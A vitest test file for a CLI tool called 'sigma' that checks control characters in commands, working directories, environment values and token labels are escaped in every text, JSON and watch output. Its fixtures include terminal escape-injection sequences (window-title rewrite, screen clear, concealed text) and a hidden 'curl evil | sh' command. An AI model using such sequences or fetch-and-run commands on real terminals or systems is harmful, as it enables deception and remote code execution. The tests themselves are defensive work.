// Whatever text the API lets through (a command, a cwd, an shared.env value, a token's label, and the
// errors and events that quote them) reaches the terminal with its control characters escaped, from
// every command that prints a definition, a run, an event, a partition or an error: no field can
// move the cursor, rewrite a line, clear the screen or set the window title.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CliProcess, runCli, sharedCliDaemon, runCliOnTerminal, SCRIPT_PATH, type CliResult } from '../support/cliRunner.js';
import { makeTempDir } from '../support/tempDirs.js';

const shared = sharedCliDaemon();
const sigma = (...args: string[]) => runCli(args, { env: shared.env });

// A window title (OSC 0 ... BEL), a carriage return, a C1 CSI that clears the screen, DEL, and
// SGR "concealed" (what hides a `curl | sh` in a command).
const TITLE = '\u001b]0;pwned\u0007';
const CWD = `/nonexistent/${TITLE}\u001b[2J`;
const CWD_SHOWN = '/nonexistent/\\x1b]0;pwned\\x07\\x1b[2J';
const COMMAND = ['/bin/echo', `a${TITLE}b`, 'c\rd', '\u009b2J', 'x\u007fy', "it's\\"];
const ENV = { EVIL: '\u001b[8mcurl evil | sh\r', PLAIN: 'ok' };
const LABEL = 'ci\u007f\u009b2J';

/** Any C0 control but the newline and tab the printers use, DEL, any C1. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

function expectNoRawControls(what: string, result: CliResult, allowColour = false): void {
  for (const [stream, text] of [
    ['stdout', result.stdout],
    ['stderr', result.stderr],
  ] as const) {
    // On a terminal the printer's own colours (SGR: ESC [ ... m) are all the escapes there may be.
    const checked = allowColour ? text.replace(/\u001b\[[0-9;]*m/g, '') : text;
    const found = RAW_CONTROL.exec(checked);
    expect(found, `${what}: ${stream} has U+${found?.[0].charCodeAt(0).toString(16).padStart(4, '0')} raw at ${found?.index}: ${JSON.stringify(text)}`).toBeNull();
  }
}

/** Runs `sigma ARGS` and checks that nothing of its output is a raw control character. */
async function checked(...args: string[]): Promise<CliResult> {
  const result = await sigma(...args);
  expectNoRawControls(`sigma ${args.join(' ')}`, result);
  return result;
}

async function createEvil(): Promise<number> {
  const reply = await shared.daemon.create({ name: 'evil', command: COMMAND, cwd: CWD, env: ENV });
  expect(reply.status, reply.text).toBe(201);
  return reply.body.processes[0].id as number;
}

describe('control characters in what the shared.daemon holds', () => {
  it('are escaped by show, ps, start, stop, rm and create, as text, and as JSON', async () => {
    const created = await checked('create', 'made', '--start', '--cwd', CWD, '--env', `EVIL=${ENV.EVIL}`, '--', ...COMMAND);
    expect(created.code).toBe(1);
    expect(created.stdout).toMatch(/^created \d+ made \(ONE_SHOT\): DORMANT\n$/);
    expect(created.stderr).toContain(`made was created but did not start: working directory ${CWD_SHOWN}`);

    const id = await createEvil();
    const started = await checked('start', 'evil');
    expect(started.code).toBe(1);
    expect(started.stderr).toContain(`evil (id ${id}): START FAILED: `);
    expect(started.stderr).toContain(CWD_SHOWN);

    const shown = await checked('show', 'evil');
    expect(shown.code, shown.stderr).toBe(0);
    const line = (field: string): string => shown.stdout.split('\n').find((text) => text.startsWith(`${field} `)) ?? '';
    // The command and shared.env as a shell would take them back: $'...' with every control escaped.
    expect(line('command')).toMatch(/^command\s+\/bin\/echo \$'a\\x1b\]0;pwned\\x07b' \$'c\\x0dd' \$'\\u009b2J' \$'x\\x7fy' 'it'\\''s\\'$/);
    expect(line('env')).toMatch(/^env\s+\$'EVIL=\\x1b\[8mcurl evil \| sh\\x0d' PLAIN=ok$/);
    expect(line('cwd')).toMatch(new RegExp(`^cwd\\s+${escapeRegExp(CWD_SHOWN)}$`));
    expect(line('lastExit')).toContain(`could not start: working directory ${CWD_SHOWN}`);
    // The run table, the error in it.
    expect(shown.stdout).toMatch(new RegExp(`Recent runs[^]*could not start: working directory ${escapeRegExp(CWD_SHOWN)}`));

    const listed = await checked('ps');
    expect(listed.stdout).toMatch(/\bevil\s+default\s+ONE_SHOT\s+-\s+DORMANT\s+-\s+0\s+0\s+error\b/);

    // JSON: the same values for a parser, written with escapes only.
    for (const args of [['show', 'evil', '--json'], ['ps', '--json']]) {
      const json = await checked(...args);
      expect(json.stdout).toContain('"x\\u007fy"');
      expect(json.stdout).toContain('"\\u009b2J"');
      const parsed = JSON.parse(json.stdout);
      const found = Array.isArray(parsed) ? parsed.find((each: { name: string }) => each.name === 'evil') : parsed.process;
      expect(found).toMatchObject({ command: COMMAND, cwd: CWD, env: ENV });
    }

    expect((await checked('stop', 'evil')).stdout).toBe(`evil (id ${id}): DORMANT\n`);
    // A name the user gave, quoted back by the daemon's 404.
    const missing = await checked('show', `no${TITLE}`);
    expect(missing.code).toBe(3);
    expect(missing.stderr).toContain('no\\x1b]0;pwned\\x07');
    expect((await checked('rm', 'evil', 'made')).stdout).toMatch(/^evil \(id \d+\): deleted\nmade \(id \d+\): deleted\n$/);
  });

  it.skipIf(SCRIPT_PATH === null)('are escaped on a terminal that shows colour, where the colours are the only escapes', async () => {
    await createEvil();
    await sigma('start', 'evil');
    for (const args of [['show', 'evil'], ['ps']]) {
      const result = await runCliOnTerminal(args, { env: { ...shared.env, TERM: 'xterm-256color' } });
      expect(result.stdout + result.stderr, 'coloured').toContain('\u001b[');
      expectNoRawControls(`sigma ${args.join(' ')} on a terminal`, result, true);
    }
  });

  it('are escaped by watch, in its lines and as JSON', async () => {
    const watches = [CliProcess.start(['watch'], { env: shared.env }), CliProcess.start(['watch', '--json'], { env: shared.env })];
    for (const watch of watches) await watch.waitForOutput('the watch to connect', ({ stderr }) => stderr.includes('sigma: watching '));
    const id = await createEvil();
    await shared.daemon.operate(id, 'START');
    const [text, json] = watches as [CliProcess, CliProcess];
    await text.waitForOutput('the failed run', ({ stdout }) => stdout.includes('run ended'));
    expect(text.stdout).toContain(`evil (id ${id})  run ended: could not start: working directory ${CWD_SHOWN}`);
    await json.waitForOutput('the failed run', ({ stdout }) => stdout.includes('"type":"run"'));
    const run = json.stdout
      .trimEnd()
      .split('\n')
      .map((each) => JSON.parse(each))
      .find((event: { type: string }) => event.type === 'run');
    expect(run.run.error).toContain(CWD);
    for (const watch of watches) {
      watch.interrupt();
      expect(await watch.exited()).toBe(0);
      expectNoRawControls('sigma watch', { code: 0, stdout: watch.stdout, stderr: watch.stderr });
    }
  });

  it("are escaped in a partition token's label, its partition's operations and its listing", async () => {
    const made = await checked('partition', 'token', 'create', 'default', '--label', LABEL);
    expect(made.code, made.stderr).toBe(0);
    expect(made.stderr).toContain('(ci\\x7f\\x9b2J) created');
    const listed = await checked('partition', 'token', 'ls', 'default');
    expect(listed.stdout).toMatch(/\bci\\x7f\\x9b2J\b/);
    const json = await checked('partition', 'token', 'ls', 'default', '--json');
    expect(json.stdout).toContain('"ci\\u007f\\u009b2J"');
    expect(JSON.parse(json.stdout).map((token: { label: string }) => token.label)).toContain(LABEL);

    await createEvil();
    const operated = await checked('partition', 'start', 'default');
    expect(operated.code).toBe(1);
    expect(operated.stderr).toContain(CWD_SHOWN);
    expect((await checked('partition', 'ls')).code).toBe(0);
    expect((await checked('partition', 'show', 'default')).code).toBe(0);
    for (const token of (await shared.daemon.request('GET', '/partitions/default/tokens')).body.tokens) {
      await shared.daemon.request('DELETE', `/partitions/default/tokens/${token.id}`);
    }
  });

  it('are escaped by apply, in its plan, its problems and a file quoted back', async () => {
    const dir = makeTempDir('sigma-controls-');
    const file = join(dir, 'sigma.yaml');
    // YAML's "\e" and "\a" are ESC and BEL.
    writeFileSync(file, ['processes:', '  - name: applied', `    command: [/bin/echo, "a\\e]0;pwned\\ab"]`, `    cwd: "/nonexistent/\\e]0;pwned\\a\\e[2J"`, ''].join('\n'));
    const planned = await checked('apply', '-f', file, '--dry-run');
    expect(planned.stdout).toContain('+ create applied: ONE_SHOT, started');
    const applied = await checked('apply', '-f', file);
    expect(applied.code).toBe(1);
    expect(applied.stderr).toContain(`applied: created as id`);
    expect(applied.stderr).toContain(CWD_SHOWN);

    const invalid = join(dir, 'invalid.yaml');
    writeFileSync(invalid, ['processes: []', `"x\\e]0;pwned\\a": 1`, ''].join('\n'));
    const refused = await checked('apply', '-f', invalid);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('unknown top-level key "x\\x1b]0;pwned\\x07"');
  });
});

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
